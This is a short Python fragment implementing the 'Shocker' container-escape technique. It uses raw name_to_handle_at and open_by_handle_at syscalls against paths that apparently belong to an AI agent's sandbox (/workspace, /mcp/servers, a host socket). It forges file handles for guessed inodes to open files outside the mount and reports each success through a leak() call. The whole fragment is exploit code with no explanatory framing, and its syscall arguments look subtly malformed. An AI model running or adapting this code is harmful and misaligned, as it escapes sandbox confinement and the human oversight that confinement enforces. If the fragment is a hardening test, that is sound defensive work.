# "shocker": with a file's handle, the file is opened from anywhere on its disk.
handle, mount = ctypes.create_string_buffer((128).to_bytes(4, "little") + bytes(132)), ctypes.c_int()
for path in (b"/", b"/workspace", b"/mcp/servers", b"/workspace/host.sock"):
    got = syscall(303, 264, -100, path, handle, ctypes.byref(mount), 0)
    if got == 0: leak("handle of", path)
for inode in (2, 128, 256):
    forged = ctypes.create_string_buffer((8).to_bytes(4, "little") + (1).to_bytes(4, "little") + inode.to_bytes(8, "little"))
    for fd in (0, 3, os.open("/workspace", os.O_RDONLY)):
        got = syscall(304, 265, fd, forged, 0)
        if got >= 0: leak("opened by handle", inode)
print("checked")
